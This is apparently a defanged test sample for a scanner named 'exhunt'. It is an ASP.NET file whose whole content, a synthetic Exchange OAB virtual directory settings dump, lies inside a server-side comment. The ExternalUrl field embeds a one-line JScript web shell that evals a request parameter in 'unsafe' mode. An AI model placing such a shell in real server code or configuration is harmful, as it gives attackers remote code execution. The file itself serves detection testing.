<%-- exhunt test sample, defanged: the whole settings dump is inside an
     ASP.NET server-side comment and is never compiled. Synthetic text in
     the shape of Get-OabVirtualDirectory | Format-List.


RunspaceId                      : 6c1e2f0a-0000-4000-8000-000000000001
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EXCH01
InternalUrl                     : https://exch01.contoso.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["exhunt"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
Identity                        : EXCH01\OAB (Default Web Site)
Name                            : OAB (Default Web Site)
--%>
